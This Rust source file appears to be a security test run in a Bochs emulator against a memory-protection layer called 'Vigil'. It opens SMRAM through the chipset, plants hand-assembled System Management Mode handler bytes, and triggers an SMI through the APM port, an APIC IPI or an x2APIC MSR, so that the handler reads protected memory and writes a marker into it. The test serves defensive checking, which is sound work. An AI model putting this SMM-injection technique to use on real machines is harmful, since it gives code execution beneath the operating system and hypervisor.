//! SMM: open SMRAM through the chipset, plant a handler at 0xA8000 (SMBASE 0xA0000 + 0x8000,
//! where Bochs' BIOS relocated it), raise an SMI. The handler runs in SMM — outside VMX and EPT,
//! with all of memory — reads the first qword of Vigil's first range into a mailbox in low
//! memory and writes a marker into that range (at +0x800), then RSM.
//!
//! Bare (nothing to attack) the handler must run: that proves the mechanism. When Vigil's
//! ranges were found, the handler must not run (SMRAM locked so it cannot be planted, or the
//! SMI not delivered); the oracle also sees any SMM entry in Bochs' log.

use super::io::*;
use guest_kit::{fail, pass, Outcome};

const HANDLER: u64 = 0xA8000;
const MAILBOX: u64 = 0x7_0000;
const MAGIC: u32 = 0x214D_4D53; // "SMM!"
const MARKER: u32 = 0x4C49_5645; // "EVIL"

#[derive(Clone, Copy)]
pub enum Trigger {
    /// APM control port 0xB2 (PIIX4 APMC, SMI when APMC_EN, PM register 0x5B bit 1).
    Apm,
    /// An SMI IPI from the local APIC to itself (ICR delivery mode 010b).
    Ipi,
    /// The same from x2APIC mode, where the ICR is MSR 0x830 (SDM Vol. 3A 12.12.9).
    X2apicIpi,
}

fn handler(target: u64) -> ([u8; 64], usize) {
    let mut c = [0u8; 64];
    let mut n = 0;
    let mut put = |b: &[u8]| {
        c[n..n + b.len()].copy_from_slice(b);
        n += b.len();
    };
    // mov eax, MAGIC; mov [addr32 MAILBOX], eax
    put(&[0x66, 0xB8]);
    put(&MAGIC.to_le_bytes());
    put(&[0x67, 0x66, 0xA3]);
    put(&(MAILBOX as u32).to_le_bytes());
    if target != 0 {
        // mov esi, target; mov eax, [esi]; mov [MAILBOX+4], eax
        put(&[0x66, 0xBE]);
        put(&(target as u32).to_le_bytes());
        put(&[0x67, 0x66, 0x8B, 0x06]);
        put(&[0x67, 0x66, 0xA3]);
        put(&(MAILBOX as u32 + 4).to_le_bytes());
        // mov edi, target + 0x800; mov dword [edi], MARKER
        put(&[0x66, 0xBF]);
        put(&(target as u32 + 0x800).to_le_bytes());
        put(&[0x67, 0x66, 0xC7, 0x07]);
        put(&MARKER.to_le_bytes());
    }
    // rsm
    put(&[0x0F, 0xAA]);
    (c, n)
}

pub fn attack(trigger: Trigger) -> Outcome {
    let t = find_targets();
    let target = t.ranges().first().map_or(0, |r| r.0);
    let defended = !t.is_empty();
    write32(MAILBOX, 0);
    write32(MAILBOX + 4, 0);
    let old = pci_read8(HOST_BRIDGE, 0x72);
    pci_write8(HOST_BRIDGE, 0x72, old | 0x40);
    let opened = pci_read8(HOST_BRIDGE, 0x72) & 0x40 != 0;
    let mut saved = [0u8; 64];
    let (code, len) = handler(target);
    if opened {
        unsafe {
            core::ptr::copy_nonoverlapping(HANDLER as *const u8, saved.as_mut_ptr(), 64);
            core::ptr::copy_nonoverlapping(code.as_ptr(), HANDLER as *mut u8, len);
        }
    }
    pci_write8(HOST_BRIDGE, 0x72, old & !0x40);
    match trigger {
        Trigger::Apm => {
            let en = pci_read8(PM, 0x5B);
            pci_write8(PM, 0x5B, en | 2);
            unsafe { outb(0xB2, 0x00) };
        }
        Trigger::Ipi => unsafe {
            let base = guest_kit::cpu::rdmsr(0x1B) & 0xF_FFFF_F000;
            let id = read32(base + 0x20) >> 24;
            write32(base + 0x310, id << 24);
            write32(base + 0x300, 2 << 8);
        },
        Trigger::X2apicIpi => unsafe {
            if guest_kit::cpu::cpuid(1, 0).ecx & (1 << 21) == 0 {
                return pass!("no-x2apic");
            }
            // Into x2APIC mode if not there yet; it stays (see apic.rs).
            let apic = guest_kit::cpu::rdmsr(0x1B);
            guest_kit::cpu::wrmsr(0x1B, apic | (1 << 10));
            let id = guest_kit::cpu::rdmsr(0x802);
            guest_kit::cpu::wrmsr(0x830, (id << 32) | (2 << 8));
        },
    }
    for _ in 0..10_000 {
        if read32(MAILBOX) == MAGIC {
            break;
        }
        core::hint::spin_loop();
    }
    let ran = read32(MAILBOX) == MAGIC;
    let read = read32(MAILBOX + 4);
    if opened {
        pci_write8(HOST_BRIDGE, 0x72, old | 0x40);
        unsafe { core::ptr::copy_nonoverlapping(saved.as_ptr(), HANDLER as *mut u8, 64) };
        pci_write8(HOST_BRIDGE, 0x72, old & !0x40);
    }
    match (defended, ran) {
        (true, true) => fail!(
            "smm-handler-ran target={:#x} read-from-vigil={:#x} marker-at={:#x}",
            target,
            read,
            target + 0x800
        ),
        (false, false) => fail!("smi-handler-did-not-run opened={}", opened),
        _ => pass!(
            "defended={} opened={} handler-ran={}",
            defended,
            opened,
            ran
        ),
    }
}
